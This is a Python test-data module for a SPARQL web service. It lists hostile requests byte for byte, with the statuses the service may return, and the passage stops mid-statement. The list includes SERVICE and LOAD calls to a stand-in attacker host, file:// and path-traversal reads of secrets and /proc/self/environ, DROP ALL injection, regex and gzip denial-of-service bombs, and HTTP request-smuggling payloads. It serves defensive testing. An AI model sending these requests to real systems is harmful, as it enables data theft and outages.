"""Attacks on the service, as data: what each sends, byte for byte, and what may come back.

CANARY stands for the address of a server nobody may call, SECRET for the path of a file nobody may
read. The table is for tests/api/test_hostile.py and for bench/hostile.py.
"""

import gzip
import json
import re
import select
import socket
import time
from collections.abc import Callable, Iterator
from csv import QUOTE_MINIMAL, QUOTE_NONE, reader
from itertools import pairwise
from pathlib import Path
from typing import NamedTuple
from urllib.parse import quote, quote_plus, urlencode
from xml.etree import ElementTree as ET

import pyoxigraph as ox

from tests.kg.test_guard import SHAPES, largest

__all__ = ["ATTACKS", "Answer", "Attack", "Target", "answers", "exchange", "told"]

CLOSED = 0
"""In place of a status: the connection was closed without an answer."""

REFUSED = frozenset((403,))
UNREADABLE = frozenset((400,))
TOO_MUCH = frozenset((400, 413))
EMPTY = frozenset((200,))
NOWHERE = frozenset((404,))
COSTLY = frozenset((200, 400, 503, 504))
"""Answered whole, told that it is too much, or stopped."""
DROPPED = frozenset((400, 408, 413, 414, 431, CLOSED))
"""Given up on: what is sent is no request, or does not end."""


class Target(NamedTuple):
    """What an attack is after: a server that counts who calls it, and a file."""

    canary: str
    secret: Path


class Attack(NamedTuple):
    """An attack: what it is called, the bytes it sends, and which statuses may come back."""

    name: str
    request: Callable[[Target], bytes]
    statuses: frozenset[int]


class Answer(NamedTuple):
    """An answer as it was received, whole."""

    status: int
    headers: dict[str, str]
    body: bytes


# -- how requests are made

_HOST = "Host: caspian.test"
_CLOSE = "Connection: close"


def _aimed(text: str, target: Target) -> str:
    return text.replace("CANARY", target.canary).replace("SECRET", str(target.secret))


def _http(method: str, path: str, *headers: str, body: bytes | None = None) -> bytes:
    length = [] if body is None else [f"Content-Length: {len(body)}"]
    lines = [f"{method} {path} HTTP/1.1", _HOST, _CLOSE, *headers, *length, "", ""]
    return "\r\n".join(lines).encode("latin-1") + (body or b"")


def _get(path: str, *headers: str, method: str = "GET") -> Callable[[Target], bytes]:
    return lambda target: _http(method, _aimed(path, target), *headers)


def _post(
    path: str, kind: str, body: bytes | str, *headers: str, method: str = "POST"
) -> Callable[[Target], bytes]:
    def made(target: Target) -> bytes:
        content = _aimed(body, target).encode() if isinstance(body, str) else body
        return _http(method, path, f"Content-Type: {kind}", *headers, body=content)

    return made


def _asked(query: str | Callable[[], str], *headers: str) -> Callable[[Target], bytes]:
    """The query as the body of a POST."""

    def made(target: Target) -> bytes:
        text = query if isinstance(query, str) else query()
        kind = "Content-Type: application/sparql-query"
        return _http("POST", "/sparql", kind, *headers, body=_aimed(text, target).encode())

    return made


def _by_get(query: str, **parameters: str) -> Callable[[Target], bytes]:
    def made(target: Target) -> bytes:
        pairs = {"query": query, **{name.replace("_", "-"): v for name, v in parameters.items()}}
        aimed = {name: _aimed(value, target) for name, value in pairs.items()}
        return _http("GET", f"/sparql?{urlencode(aimed)}")

    return made


def _by_form(**parameters: str) -> Callable[[Target], bytes]:
    def made(target: Target) -> bytes:
        pairs = {name.replace("_", "-"): _aimed(v, target) for name, v in parameters.items()}
        kind = "Content-Type: application/x-www-form-urlencoded"
        return _http("POST", "/sparql", kind, body=urlencode(pairs).encode())

    return made


def _raw(*parts: bytes) -> Callable[[Target], bytes]:
    return lambda _: b"".join(parts)


def _costly(name: str, query: str | Callable[[], str], *headers: str) -> Attack:
    return Attack(name, _asked(query, *headers), COSTLY)


# -- other servers and files

_CALL = "SERVICE <CANARY/sparql> { ?s ?p ?o }"
_CALLS = {
    "plainly": f"SELECT * {{ {_CALL} }}",
    "silently": "SELECT * { SERVICE SILENT <CANARY/sparql> { ?s ?p ?o } }",
    "in OPTIONAL": f"SELECT * {{ ?a ?b ?c OPTIONAL {{ {_CALL} }} }}",
    "in UNION": f"SELECT * {{ {{ ?s ?p ?o }} UNION {{ {_CALL} }} }}",
    "in EXISTS": f"ASK {{ ?s ?p ?o FILTER EXISTS {{ {_CALL} }} }}",
    "in NOT EXISTS": f"ASK {{ ?s ?p ?o FILTER NOT EXISTS {{ {_CALL} }} }}",
    "in MINUS": f"SELECT * {{ ?s ?p ?o MINUS {{ {_CALL} }} }}",
    "in a subquery": f"SELECT * {{ {{ SELECT * {{ {_CALL} }} }} }}",
    "in GRAPH": f"SELECT * {{ GRAPH ?g {{ {_CALL} }} }}",
    "in LATERAL": f"SELECT * {{ ?a ?b ?c LATERAL {{ {_CALL} }} }}",
    "in SELECT": f"SELECT (EXISTS {{ {_CALL} }} AS ?x) {{ ?s ?p ?o }}",
    "in BIND": f"SELECT * {{ BIND(EXISTS {{ {_CALL} }} AS ?x) }}",
    "in ORDER BY": f"SELECT * {{ ?s ?p ?o }} ORDER BY EXISTS {{ {_CALL} }}",
    "in GROUP BY": f"SELECT ?x {{ ?s ?p ?o }} GROUP BY (EXISTS {{ {_CALL} }} AS ?x)",
    "in HAVING": f"SELECT ?s {{ ?s ?p ?o }} GROUP BY ?s HAVING (EXISTS {{ {_CALL} }})",
    "in CONSTRUCT": f"CONSTRUCT {{ ?s ?p ?o }} WHERE {{ {_CALL} }}",
    "in DESCRIBE": f"DESCRIBE ?s WHERE {{ {_CALL} }}",
    "by a variable": "SELECT * { VALUES ?u { <CANARY/sparql> } SERVICE ?u { ?s ?p ?o } }",
    "by a prefix": "PREFIX e: <CANARY/> SELECT * { SERVICE e:sparql { ?s ?p ?o } }",
    "by a prefix named so": "PREFIX service: <CANARY/> SELECT * { SERVICE service:x { ?s ?p ?o } }",
    "with an escaped letter": r"SELECT * { SERV\u0049CE <CANARY/sparql> { ?s ?p ?o } }",
    "with a long escape": r"SELECT * { \U00000053ERVICE <CANARY/sparql> { ?s ?p ?o } }",
    "between comments": "SELECT * { #\nSERVICE#>\n<CANARY/sparql>#{\n{ ?s ?p ?o } }",
    "after what looks like an IRI": (
        "SELECT*{?s ?p ?o FILTER('a'<'>'||true) SERVICE <CANARY/sparql> {?a ?b ?c}} #'"
    ),
    "after what looks like a comment": (
        "# \\u000A ''' \nSELECT*{ SERVICE <CANARY/sparql> {?s ?p ?o}} # '''"
    ),
    "run together": "SELECT*{SERVICESILENT<CANARY/sparql>{?s ?p ?o}}",
    "after a number": "SELECT*{?s ?p 1.SERVICE<CANARY/sparql>{?s ?p ?o}}",
}
_NAMES = {
    "FROM a server": "SELECT * FROM <CANARY/x.ttl> { ?s ?p ?o }",
    "FROM NAMED a server": "SELECT * FROM NAMED <CANARY/x.ttl> { GRAPH ?g { ?s ?p ?o } }",
    "GRAPH of a server": "SELECT * { GRAPH <CANARY/x.ttl> { ?s ?p ?o } }",
    "FROM a server by a prefix": "PREFIX e: <CANARY/> SELECT * FROM e:x.ttl { ?s ?p ?o }",
    "FROM a server by a base": "BASE <CANARY/> SELECT * FROM <x.ttl> { ?s ?p ?o }",
    "FROM two servers": "SELECT * FROM <CANARY/x.ttl> FROM <CANARY/y.ttl> { ?s ?p ?o }",
    "FROM a file": "SELECT * FROM <file://SECRET> { ?s ?p ?o }",
    "FROM NAMED a file": "SELECT * FROM NAMED <file://SECRET> { GRAPH ?g { ?s ?p ?o } }",
    "GRAPH of a file": "SELECT * { GRAPH <file://SECRET> { ?s ?p ?o } }",
    "FROM a path": "BASE <file:///> SELECT * FROM <SECRET> { ?s ?p ?o }",
}
_UPDATES = {
    "LOAD of a server": "LOAD <CANARY/x.ttl>",
    "LOAD into a graph": "LOAD SILENT <CANARY/x.ttl> INTO GRAPH <urn:g>",
    "LOAD of a file": "LOAD <file://SECRET>",
    "INSERT DATA": "INSERT DATA { <urn:a> <urn:b> <urn:c> }",
    "INSERT with a call": f"INSERT {{ ?s ?p ?o }} WHERE {{ {_CALL} }}",
    "DELETE WHERE": "DELETE WHERE { ?s ?p ?o }",
    "CLEAR after a prologue": "PREFIX e: <CANARY/> BASE <urn:x> CLEAR ALL",
    "DROP after a query": "SELECT * {} ; DROP ALL",
}
_TRAVERSALS = (
    "/static/../../../../../../..SECRET",
    "/static/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2eSECRET",
    "/static/..%2f..%2f..%2f..%2f..%2f..%2f..%2f..SECRET",
    "/static/....//....//....//....//....//SECRET",
    "/static//SECRET",
    "/static/caspian.css%00SECRET",
    "/queries/..%2f..%2f..%2f..%2f..%2f..%2f..SECRET",
    "/queries/%2e%2e%2fsettings",
    "/things/../../../../../../..SECRET",
    "/things/file:%2f%2fSECRET",
    "/../../../../../../..SECRET",
    "//SECRET",
    "/.git/config",
    "/proc/self/environ",
)


def _elsewhere() -> Iterator[Attack]:
    for name, query in _CALLS.items():
        yield Attack(f"calls a server {name}", _asked(query), REFUSED)
    yield Attack("calls a server by GET", _by_get(_CALLS["plainly"]), REFUSED)
    yield Attack("calls a server by a form", _by_form(query=_CALLS["plainly"]), REFUSED)
    for name, query in _NAMES.items():
        yield Attack(f"reads {name}", _asked(query), EMPTY)
    everything = "SELECT * { { ?s ?p ?o } UNION { GRAPH ?g { ?s ?p ?o } } }"
    for place in ("CANARY/x.ttl", "file://SECRET"):
        default, named = {"default_graph_uri": place}, {"named_graph_uri": place}
        kind = "a server" if "CANARY" in place else "a file"
        yield Attack(f"reads {kind} as its default graph", _by_get(everything, **default), EMPTY)
        yield Attack(f"reads {kind} as a named graph", _by_get(everything, **named), EMPTY)
        yield Attack(
            f"reads {kind} as a graph by a form", _by_form(query=everything, **default), EMPTY
        )
    yield Attack(
        "reads a server by the Referer and the Host",
        _get("/sparql?query=ASK%7B%7D", "Referer: CANARY", "X-Forwarded-Host: 127.0.0.1"),
        EMPTY,
    )
    yield Attack("asks for a page of another server", _get("CANARY/x.ttl"), NOWHERE)
    for name, update in _UPDATES.items():
        yield Attack(f"writes: {name}, as a query", _asked(update), REFUSED)
        yield Attack(f"writes: {name}, as an update", _by_form(update=update), REFUSED)
        direct = _post("/sparql", "application/sparql-update", update)
        yield Attack(f"writes: {name}, as a body", direct, REFUSED)
    for path in ("/update", "/sparql/update", "/data", "/store", "/upload", "/ds/update"):
        yield Attack(
            f"writes to {path}", _post(path, "application/sparql-update", "CLEAR ALL"), NOWHERE
        )
    for method in ("PUT", "DELETE", "PATCH"):
        kind, triple = "text/turtle", "<urn:a> <urn:b> <urn:c> ."
        put = _post("/sparql?default", kind, triple, method=method)
        yield Attack(f"writes by {method}", put, frozenset((405,)))
    for path in _TRAVERSALS:
        yield Attack(f"climbs by {path}", _get(path), frozenset((200, 400, 404, 422)))


# -- questions that cost much

_ALL = "?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l . ?m ?n ?o"
_PATHS = {
    "stars in stars": "?s ((((<urn:a>|!<urn:a>)*)*)*)* ?o",
    "pluses in pluses": "?s ((((<urn:a>|!<urn:a>)+)+)+)+ ?o . ?o (!<urn:b>)* ?x",
    "every path": "?s (<urn:a>|!<urn:a>)* ?o . ?o (<urn:a>|!<urn:a>)* ?t",
    "paths both ways": "?s (<urn:a>|!<urn:a>|^<urn:a>|!(^<urn:a>))* ?o",
    "a chain of stars": "?s !<urn:a>*/!<urn:a>*/!<urn:a>*/!<urn:a>*/!<urn:a>* ?o",
    "a chain of options": "?s " + "/".join(["(!<urn:a>)?"] * 20) + " ?o",
}


def _doubled(first: str, again: str, times: int) -> str:
    """A text that each step makes twice as long."""
    steps = "".join(f" BIND({again.format(f'?x{i}')} AS ?x{i + 1})" for i in range(times))
    return f"SELECT (STRLEN(?x{times}) AS ?n) {{ BIND({first} AS ?x0){steps} }}"


_GREEDY = {
    "a product of everything": f"SELECT * {{ {_ALL} }}",
    "a product, counted": f"SELECT (COUNT(*) AS ?n) {{ {_ALL} }}",
    "a product, sorted": f"SELECT * {{ {_ALL} }} ORDER BY ?c ?f ?i ?l ?o",
    "a product, sorted by what is worked out": (
        f"SELECT * {{ {_ALL} }} ORDER BY MD5(CONCAT(STR(?c), STR(?f), STR(?i)))"
    ),
    "a product, each row once": f"SELECT DISTINCT * {{ {_ALL} }}",
    "a product, reduced": f"SELECT REDUCED * {{ {_ALL} }}",
    "a product, grouped": f"SELECT ?c ?f (COUNT(*) AS ?n) {{ {_ALL} }} GROUP BY ?c ?f ?i",
    "a product, joined to one text": f"SELECT (GROUP_CONCAT(?c) AS ?x) {{ {_ALL} }}",
    "a product, as distinct text": f"SELECT (GROUP_CONCAT(DISTINCT ?c) AS ?x) {{ {_ALL} }}",
    "a product, counted distinct": (
        f"SELECT (COUNT(DISTINCT CONCAT(STR(?a), STR(?d), STR(?g))) AS ?n) {{ {_ALL} }}"
    ),
    "a product, as a graph": f"CONSTRUCT {{ ?a ?e ?i . ?d ?h ?l }} WHERE {{ {_ALL} }}",
    "a product, described": f"DESCRIBE ?a ?d ?g WHERE {{ {_ALL} }}",
    "a product, asked": f"ASK {{ {_ALL} FILTER(CONCAT(STR(?c), STR(?f)) = 'never') }}",
    "a product, skipped": f"SELECT * {{ {_ALL} }} OFFSET 1000000000000 LIMIT 1",
    "a product of graphs": "SELECT * { GRAPH ?g { ?a ?b ?c } GRAPH ?h { ?d ?e ?f } }",
    "a product, then none": f"SELECT * {{ {_ALL} MINUS {{ ?a ?b ?c }} }}",
    "a product in NOT EXISTS": f"SELECT * {{ ?x ?y ?z FILTER NOT EXISTS {{ {_ALL} }} }}",
    "a product in each row": (
        "SELECT * { ?x ?y ?z FILTER EXISTS { ?a ?b ?c . ?d ?e ?f FILTER(?c > ?f && ?z > ?c) } }"
    ),
    "a product in OPTIONAL": (
        "SELECT * { ?a ?b ?c OPTIONAL { ?d ?e ?f FILTER(?c != ?f) OPTIONAL { ?g ?h ?i } } }"
    ),
    "a product by a comparison": (
        "SELECT * { ?a ?b ?c . ?d ?e ?f FILTER(STRLEN(STR(?c)) + STRLEN(STR(?f)) < 0) }"
    ),
    "a product of subqueries": (
        "SELECT * { " + " ".join(f"{{ SELECT ?x{i} {{ ?x{i} ?p ?o }} }}" for i in range(8)) + " }"
    ),
    "a product of values": (
        "SELECT (COUNT(*) AS ?n) { "
        + " ".join(f"VALUES ?x{i} {{ {'1 2 3 4 5 6 7 8 9 ' * 4}}}" for i in range(12))
        + " }"
    ),
    "values joined many to many": (
        "SELECT * { VALUES (?x ?y) { "
        + "(1 2) " * 4_000
        + "} VALUES (?x ?z) { "
        + "(1 3) " * 4_000
        + "} }"
    ),
    "values joined on nothing bound": (
        "SELECT * { VALUES (?x ?y) { "
        + "(UNDEF 2) " * 2_500
        + "} VALUES (?x ?z) { "
        + "(UNDEF 3) " * 2_500
        + "} }"
    ),
    "a text doubled by CONCAT": _doubled("'abcdefgh'", "CONCAT({0}, {0})", 40),
    "a text doubled, and shown": (
        "SELECT * { BIND('abcdefgh' AS ?x0) "
        + " ".join(f"BIND(CONCAT(?x{i}, ?x{i}) AS ?x{i + 1})" for i in range(40))
        + " }"
    ),
    "a text grown by REPLACE": _doubled("'aaaaaaaa'", "REPLACE({0}, 'a', 'aaaaaaaa')", 12),
    "a text grown by groups": _doubled("'ab'", "REPLACE({0}, '(.*)', '$1$1$1$1')", 20),
    "a text grown by encoding": _doubled("'%%%%'", "ENCODE_FOR_URI({0})", 40),
    "an integer squared": _doubled("9", "{0} * {0}", 60),
    "a decimal squared": _doubled("9.000000000000000001", "{0} * {0}", 60),
    "many groups": "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f } GROUP BY (RAND() AS ?x)",
    "many aggregates": (
        "SELECT "
        + " ".join(f"(GROUP_CONCAT(CONCAT(STR(?c), '{i}')) AS ?x{i})" for i in range(60))
        + " { ?a ?b ?c . ?d ?e ?f }"
    ),
    "an average of everything": f"SELECT (AVG(STRLEN(STR(?c))) AS ?x) {{ {_ALL} }}",
    "many merged graphs": (
        "SELECT (COUNT(*) AS ?n) "
        + " ".join(f"FROM <urn:g{i}>" for i in range(1_000))
        + " { ?s ?p ?o }"
    ),
}
_EVIL = ("'" + "a" * 40 + "!'", "'" + "a" * 30_000 + "!'")
_REGEXES = {
    "nested": f"ASK {{ FILTER(REGEX({_EVIL[0]}, '^(a+)+$')) }}",
    "nested, long": f"ASK {{ FILTER(REGEX({_EVIL[1]}, '^(a+)+$')) }}",
    "alternatives": f"ASK {{ FILTER(REGEX({_EVIL[1]}, '^(a|a|aa)*$')) }}",
    "nested groups": f"ASK {{ FILTER(REGEX({_EVIL[1]}, '^((a*)*)*$')) }}",
    "many dots": f"ASK {{ FILTER(REGEX({_EVIL[1]}, '{'.*' * 60}b')) }}",
    "counted": "ASK { FILTER(REGEX('a', '(((a{100}){100}){100}){100}')) }",
    "counted, just small enough": "ASK { FILTER(REGEX('a', '((a{1,30}){1,30}){1,30}')) }",
    "of all letters": "ASK { FILTER(REGEX('a', '(\\\\w{50}){50}', 'i')) }",
    "on everything": "SELECT * { ?a ?b ?c . ?d ?e ?f FILTER(REGEX(STR(?c), STR(?f), 'i')) }",
    "one each": "SELECT * { ?a ?b ?c FILTER(REGEX(?c, CONCAT('(', STR(?a), '){1,50}.*'))) }",
    "look behind": f"ASK {{ FILTER(REGEX({_EVIL[0]}, '(?<=a+)b(?!c*)')) }}",
    "back reference": f"ASK {{ FILTER(REGEX({_EVIL[0]}, '(a*)\\\\1b')) }}",
    "of brackets": "ASK { FILTER(REGEX('a', '" + "(" * 9_000 + ")" * 9_000 + "')) }",
    "unclosed": "ASK { FILTER(REGEX('a', '" + "(" * 20_000 + "')) }",
    "REPLACE": f"ASK {{ FILTER(REPLACE({_EVIL[1]}, '(a+)+', '$1$1$1$1') = '') }}",
}
_LONG = {
    "an integer of 60,000 digits": f"SELECT ({'9' * 60_000} + 1 AS ?x) {{}}",
    "a decimal of 60,000 digits": f"SELECT (1.{'9' * 60_000} + 1 AS ?x) {{}}",
    "an exponent of 60,000 digits": f"SELECT (1e{'9' * 60_000} + 1 AS ?x) {{}}",
    "a date far away": (
        "SELECT ('999999999999999999-01-01'^^<http://www.w3.org/2001/XMLSchema#date> "
        "+ 'P999999999999999Y'^^<http://www.w3.org/2001/XMLSchema#duration> AS ?x) {}"
    ),
    "the smallest integer divided": "SELECT (-9223372036854775808 / -1 AS ?x) {}",
    "a variable of 60,000 letters": f"SELECT ?{'v' * 60_000} {{}}",
    "an IRI of 60,000 letters": f"ASK {{ <urn:{'v' * 60_000}> ?p ?o }}",
    "a language of 60,000 letters": f"ASK {{ ?s ?p 'x'@a{'-a' * 30_000} }}",
    "60,000 spaces": f"ASK {{{' ' * 60_000}}}",
    "a comment of 60,000 letters": f"ASK {{}} #{'x' * 60_000}",
    "10,000 comments": "ASK {" + "#'\n" * 10_000 + "}",
    "20,000 quotation marks": "ASK {" + "''\"\"" * 10_000 + "}",
    "quotation marks that never pair": "ASK { ?s ?p " + "'''\"\"\"" * 10_000 + " }",
    "60,000 backslashes": "ASK { ?s ?p '" + "\\" * 60_000 + "' }",
    "10,000 escapes": "ASK { ?s ?p '" + "\\u0027" * 10_000 + "' }",
    "60,000 less-than signs": "ASK { FILTER(1" + "<" * 60_000 + "2) }",
    "3,000 prefixes": "".join(f"PREFIX p{i}: <urn:{i}> " for i in range(3_000)) + "ASK {}",
    "6,000 bases": "BASE <a/> " * 6_000 + "ASK {}",
    "3,000 graphs": "SELECT * " + "FROM <urn:g> " * 3_000 + "{ ?s ?p ?o }",
    "half a surrogate": "ASK { ?s ?p '\\uD800' }",
    "a NUL in the query": "ASK { ?s ?p 'a\x00b' }",
    "text that runs backwards": "ASK { ?s ?p '\u202e\u2066\u200f' }",
    "10,000 combining marks": "ASK { ?s ?p 'a" + "\u0301" * 10_000 + "' }",
    "nothing": "",
    "not a query": "<script>alert(1)</script>",
    "an unknown function": "SELECT (<urn:exec>('id') AS ?x) {}",
    "a function of Java": "SELECT (<java:java.lang.Runtime>('id') AS ?x) {}",
    "a function of JavaScript": "SELECT (<http://jena.apache.org/ARQ/jsFunction#x>('1') AS ?x) {}",
    "a function of the engine": "SELECT (<http://oxigraph.org#x>('1') AS ?x) {}",
}


def _shape(name: str) -> Iterator[Attack]:
    bound, shape = SHAPES[name]
    yield _costly(f"{name}, at the limit", lambda: largest(bound, shape))
    past = {"bytes": 70_000, "patterns": 400}.get(bound, 1_000)
    yield Attack(f"{name}, past the limit", _asked(lambda: shape(past)), TOO_MUCH)


def _much() -> Iterator[Attack]:
    for name in SHAPES:
        yield from _shape(name)
    for name, shape in (
        ("groups, 250 kB", "ASK" + "{" * 125_000 + "}" * 125_000),
        ("brackets, 250 kB", "SELECT(" + "(" * 125_000 + "1" + ")" * 125_000 + " AS ?x){}"),
        ("unclosed groups, 250 kB", "ASK" + "{" * 250_000),
        ("nots, 250 kB", "ASK{FILTER(" + "!" * 250_000 + "1)}"),
        ("nodes, 250 kB", "ASK{" + "[" * 250_000),
    ):
        yield Attack(name, _asked(shape), UNREADABLE)
    for name, pattern in _PATHS.items():
        yield _costly(f"a path: {name}", f"SELECT (COUNT(*) AS ?n) {{ {pattern} }}")
    for name, query in (_GREEDY | _LONG).items():
        yield _costly(name, query)
    for name, query in _REGEXES.items():
        yield _costly(f"a regular expression: {name}", query)
    rows = "SELECT * { ?a ?b ?c . ?d ?e ?f } LIMIT 200000"
    triples = "CONSTRUCT { ?a ?e ?f . ?d ?b ?c } WHERE { ?a ?b ?c . ?d ?e ?f } LIMIT 200000"
    for accept in ("text/csv", "application/sparql-results+xml", "text/tab-separated-values"):
        yield _costly(f"a long answer as {accept}", rows, f"Accept: {accept}")
    for accept in ("text/turtle", "application/ld+json", "application/rdf+xml"):
        yield _costly(f"a long graph as {accept}", triples, f"Accept: {accept}")
    yield _costly("a long answer, packed", rows, "Accept-Encoding: gzip")


# -- requests that are none, or too long, or many

_ASK = "/sparql?query=ASK%7B%7D"
_LINE = b"GET /sparql?query=ASK%7B%7D HTTP/1.1\r\nHost: caspian.test\r\n"
_END = b"Connection: close\r\n\r\n"
_SPARQL = b"POST /sparql HTTP/1.1\r\nHost: h\r\nContent-Type: application/sparql-query\r\n"
_BOMB = gzip.compress(b"0" * 50_000_000)
_SMUGGLED = b"GET /smuggled HTTP/1.1\r\nHost: caspian.test\r\n\r\n"

_MALFORMED: dict[str, bytes] = {
    "no HTTP": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(range(200)) + b"\r\n\r\n",
    "HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "HTTP/9.9": b"GET / HTTP/9.9\r\nHost: h\r\n\r\n",
    "HTTP/0.9": b"GET /\r\n\r\n",
    "spaces in the line": b"GET  /  a b HTTP/1.1\r\n\r\n",
    "no path": b"GET HTTP/1.1\r\n\r\n",
    "a NUL in the URL": b"GET /sparql?query=\x00 HTTP/1.1\r\nHost: h\r\n" + _END,
    "a NUL in a header": _LINE + b"X-Y: a\x00b\r\n" + _END,
    "a header without a name": _LINE + b": x\r\n" + _END,
    "a header without a colon": _LINE + b"nonsense\r\n" + _END,
    "a space before the colon": _LINE + b"Content-Length : 3\r\n" + _END + b"abc",
    "a folded header": _LINE + b"X-Y: a\r\n  b\r\n" + _END,
    "a line feed alone": _LINE.replace(b"\r\n", b"\n") + b"Connection: close\n\n",
    "a carriage return alone": _LINE + b"X-Y: a\rInjected: b\r\n" + _END,
    "a negative length": _SPARQL + b"Content-Length: -1\r\n" + _END,
    "a length that is none": _SPARQL + b"Content-Length: ten\r\n" + _END,
    "a length with a sign": _SPARQL + b"Content-Length: +6\r\n" + _END + b"ASK {}",
    "a length in hexadecimal": _SPARQL + b"Content-Length: 0x6\r\n" + _END + b"ASK {}",
    "a length past 64 bits": _SPARQL + b"Content-Length: 99999999999999999999999\r\n" + _END,
    "two lengths": _SPARQL + b"Content-Length: 6\r\nContent-Length: 7\r\n" + _END + b"ASK {}",
    "a list of lengths": _SPARQL + b"Content-Length: 6, 7\r\n" + _END + b"ASK {}",
    "a length and chunks": (
        _SPARQL
        + b"Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n6\r\nASK {}\r\n0\r\n\r\n"
        + _SMUGGLED
    ),
    "chunks and a length": (
        _SPARQL + b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n" + _SMUGGLED
    ),
    "chunks, spelt oddly": (
        _SPARQL + b"Content-Length: 4\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + _SMUGGLED
    ),
    "chunks that are not last": (
        _SPARQL + b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n" + _SMUGGLED
    ),
    "chunks by a vertical tab": (
        _SPARQL + b"Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n" + _SMUGGLED
    ),
    "a chunk of no length": _SPARQL + b"Transfer-Encoding: chunked\r\n\r\nzz\r\nASK {}\r\n",
    "a chunk of a negative length": _SPARQL + b"Transfer-Encoding: chunked\r\n\r\n-6\r\nASK {}\r\n",
    "a chunk past 64 bits": (
        _SPARQL + b"Transfer-Encoding: chunked\r\n\r\n" + b"f" * 17 + b"\r\nASK {}\r\n"
    ),
    "a chunk longer than it says": (
        _SPARQL + b"Transfer-Encoding: chunked\r\n\r\n3\r\nASK {}\r\n0\r\n\r\n"
    ),
    "bytes past ASCII in the URL": b"GET /sparql?query=\xff\xfe HTTP/1.1\r\nHost: h\r\n" + _END,
    "bytes past ASCII in the path": b"GET /\xc3\xa9\xff HTTP/1.1\r\nHost: h\r\n" + _END,
    "CONNECT": b"CONNECT 127.0.0.1:22 HTTP/1.1\r\nHost: h\r\n\r\n",
    "an unknown method": b"FROBNICATE / HTTP/1.1\r\nHost: h\r\n" + _END,
    "a method of 60,000 letters": b"G" * 60_000 + b" / HTTP/1.1\r\n\r\n",
    "a long line without an end": b"GET /" + b"a" * 5_000_000,
    "a header without an end": _LINE + b"X-Y: " + b"a" * 20_000_000,
    "a header name without an end": _LINE + b"X" * 20_000_000,
    "a million headers": _LINE + b"".join(b"X-%d: a\r\n" % i for i in range(1_000_000)) + _END,
    "a trailer without an end": (
        _SPARQL + b"Transfer-Encoding: chunked\r\n\r\n0\r\nX-Y: " + b"a" * 20_000_000
    ),
    "a chunk extension without an end": (
        _SPARQL + b"Transfer-Encoding: chunked\r\n\r\n6;x=" + b"a" * 20_000_000
    ),
    "empty lines without an end": b"\r\n" * 1_000_000,
}
_MAY_PASS = frozenset((200, 400, 404, 405, 408, 413, 414, 415, 431, 501, CLOSED))


def _unfit() -> Iterator[Attack]:
    for name, request in _MALFORMED.items():
        yield Attack(f"malformed: {name}", _raw(request), _MAY_PASS)
    for method in ("TRACE", "OPTIONS", "PROPFIND", "LOCK", "MKCOL", "PURGE", "HEAD", "SEARCH"):
        yield Attack(
            f"the method {method}", _get(_ASK, method=method), frozenset((200, 204, 400, 405))
        )
    yield Attack(
        "an upgrade to another protocol",
        _get(_ASK, "Upgrade: websocket", "Sec-WebSocket-Key: eA==", "Sec-WebSocket-Version: 13"),
        frozenset((200, 400, 426)),
    )
    yield Attack(
        "60 pipelined requests", _raw(*[_LINE + b"\r\n"] * 60, _LINE, _END), frozenset((200,))
    )
    yield Attack("300 pipelined requests", _raw(*[_LINE + b"\r\n"] * 300, _LINE, _END), DROPPED)
    yield Attack(
        "100,000 pipelined requests",
        _raw(*[b"GET /x HTTP/1.1\r\nHost: h\r\n\r\n"] * 100_000, _LINE, _END),
        DROPPED,
    )
    yield Attack(
        "a question, and nonsense after it",
        _raw(
            _SPARQL + b"Content-Length: 61\r\n\r\n",
            b"SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }   ",
            b"\x00\x00nonsense\r\n\r\n",
        ),
        frozenset((400, 503, 504, CLOSED)),
    )
    yield Attack(
        "a range of bytes, many times",
        _get("/static/caspian.css", f"Range: bytes={','.join(f'{i}-' for i in range(1_500))}"),
        frozenset((200, 206, 416)),
    )
    yield Attack("a range of bytes of an answer", _get(_ASK, "Range: bytes=0-3"), frozenset((200,)))
    yield Attack("a URL of 20 kB", _get(f"/sparql?query={'a' * 20_000}"), frozenset((414,)))
    yield Attack("a URL of 70 kB", _get(f"/sparql?query={'a' * 70_000}"), frozenset((414,)))
    yield Attack("a path of 60 kB", _get(f"/{'a/' * 30_000}"), frozenset((414,)))
    yield Attack(
        "5,000 parameters", _get("/sparql?" + "&".join(["query=a"] * 2_000)), frozenset((400, 414))
    )
    each = "&".join(f"{i:x}" for i in range(3_400))
    for path in ("/paths", "/timeline", "/conflicts", "/origins", "/things/leg"):
        yield Attack(
            f"thousands of parameters for {path}", _get(f"{path}?{each}"), frozenset((400, 422))
        )
    yield Attack(
        "a parameter, thousands of times",
        _get("/paths?" + "from=a&" * 2_000 + "to=b"),
        frozenset((400, 422)),
    )
    form = "application/x-www-form-urlencoded"
    yield Attack(
        "100,000 parameters in a form", _post("/sparql", form, b"a&" * 100_000), UNREADABLE
    )
    yield Attack(
        "a form of escapes", _post("/sparql", form, b"query=" + b"%2" * 130_000), UNREADABLE
    )
    yield Attack("two queries", _get("/sparql?query=ASK%7B%7D&query=ASK%7B%7D"), UNREADABLE)
    yield Attack("no query", _get("/sparql"), frozenset((200, 400)))
    yield Attack("bad UTF-8 in the URL", _get("/sparql?query=%FF%FE"), UNREADABLE)
    yield Attack("bad UTF-8 in a form", _post("/sparql", form, b"query=%C3%28"), UNREADABLE)
    direct = "application/sparql-query"
    yield Attack("bad UTF-8 in a body", _post("/sparql", direct, b"ASK {} #\xff"), UNREADABLE)
    yield Attack("another charset", _post("/sparql", f"{direct}; charset=utf-7", b"x"), _KIND)
    yield Attack("a body of no kind", _post("/sparql", "", b"ASK {}"), _KIND)
    yield Attack("a body of parts", _post("/sparql", "multipart/form-data; boundary=x", "x"), _KIND)
    yield Attack(
        "a kind of 60,000 parameters", _post("/sparql", direct + ";a=b" * 15_000, b"ASK {}"), _FORM
    )
    yield Attack(
